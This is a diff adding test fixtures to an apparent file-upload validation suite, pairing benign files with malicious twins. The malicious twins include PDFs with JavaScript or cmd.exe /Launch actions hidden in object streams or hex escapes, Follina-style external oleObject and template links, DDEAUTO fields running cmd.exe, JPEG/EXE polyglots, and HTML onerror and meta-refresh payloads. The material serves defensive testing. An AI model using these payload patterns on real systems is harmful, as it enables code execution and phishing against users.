@@ -131,3 +131,115 @@ def many_entries_bytes(count=3000):
 
 def upload(name, data, content_type="application/octet-stream"):
     return SimpleUploadedFile(name, data, content_type=content_type)
+
+
+# Structural checks: each bad file has a good twin that must still pass. ------------
+
+
+def jpeg_magic_only():
+    return b"\xff\xd8\xff"
+
+
+def pdf_with(name=b"/JavaScript", *, in_object_stream=False):
+    """A valid PDF whose catalogue has an action; optionally inside a compressed object stream."""
+    if name == b"/Launch":
+        action = b"<< /S /Launch /F (cmd.exe) >>"
+    else:
+        action = b"<< /S " + name + b" " + name.replace(b"Script", b"") + b" (app.alert(1)) >>"
+    plain = pdf_bytes()
+    if not in_object_stream:
+        return plain.replace(
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + action + b" >>",
+            1,
+        )
+    packed = zlib.compress(b"6 0 " + action)
+    stream = (
+        b"7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
+        % len(packed)
+        + packed
+        + b"\nendstream\nendobj\n"
+    )
+    return plain.replace(b"xref\n", stream + b"xref\n", 1)
+
+
+def pdf_hex_escaped_javascript():
+    return pdf_with(b"/J#61vaScript").replace(b"/J#61va /JS", b"/J#53")
+
+
+def docx_with_relationship(rel_type, target, part="word/_rels/settings.xml.rels"):
+    rels = (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        f'relationships/{rel_type}" Target="{target}" TargetMode="External"/></Relationships>'
+    )
+    return office_bytes("docx", extra_members=[(part, rels)])
+
+
+def docx_with_external_template():
+    return docx_with_relationship("attachedTemplate", "http://198.51.100.1/t.dotm")
+
+
+def docx_with_external_ole():
+    """The Follina pattern: an external oleObject relationship pointing at an mhtml: URL."""
+    return docx_with_relationship(
+        "oleObject", "mhtml:http://198.51.100.1/x.html!x-usc:http://198.51.100.1/x.html",
+        part="word/_rels/document.xml.rels",
+    )  # fmt: skip
+
+
+def docx_with_hyperlink():
+    """The good twin: an ordinary external link in a document."""
+    return docx_with_relationship(
+        "hyperlink", "https://example.com/", part="word/_rels/document.xml.rels"
+    )
+
+
+def docx_with_field(instruction):
+    part, content_type, _body = OFFICE["docx"]
+    body = (
+        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        '<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in instruction)
+        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>'
+    )
+    data = office_bytes("docx")
+    buffer = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(data)) as source,
+        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
+    ):
+        for item in source.infolist():
+            archive.writestr(item, body if item.filename == part else source.read(item))
+    return buffer.getvalue()
+
+
+STRUCTURE_GOOD = [
+    ("写真.jpg", jpeg_bytes, "jpeg"),
+    ("plan.pdf", lambda: pdf_bytes("JavaScript and Launch plans"), "pdf"),
+    ("links.docx", docx_with_hyperlink, "docx"),
+    ("pages.docx", lambda: docx_with_field([" PAGE ", "\\* MERGEFORMAT "]), "docx"),
+    ("img.txt", lambda: "画像（img）とmeta情報の整理。a < b、c > d。\n".encode(), "text"),
+]
+
+STRUCTURE_BAD = [
+    ("magic.jpg", jpeg_magic_only, "damaged"),
+    ("exe.jpg", lambda: jpeg_bytes() + exe_bytes(), "polyglot"),
+    ("pdf.jpg", lambda: jpeg_bytes() + pdf_bytes(), "polyglot"),
+    ("script.pdf", pdf_with, "pdf_action"),
+    ("launch.pdf", lambda: pdf_with(b"/Launch"), "pdf_action"),
+    ("objstm.pdf", lambda: pdf_with(in_object_stream=True), "pdf_action"),
+    ("objstm-launch.pdf", lambda: pdf_with(b"/Launch", in_object_stream=True), "pdf_action"),
+    ("hex.pdf", pdf_hex_escaped_javascript, "pdf_action"),
+    ("template.docx", docx_with_external_template, "external_link"),
+    ("follina.docx", docx_with_external_ole, "external_link"),
+    ("dde.docx", lambda: docx_with_field([' DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc" ']), "dde"),
+    ("split-dde.docx", lambda: docx_with_field([" DD", 'E cmd "/c calc" ']), "dde"),
+    ("onerror.txt", lambda: b'Notes <img src=x onerror="alert(1)">', "active_content"),
+    (
+        "refresh.txt",
+        lambda: b'<meta http-equiv="refresh" content="0;url=//evil">',
+        "active_content",
+    ),
+]
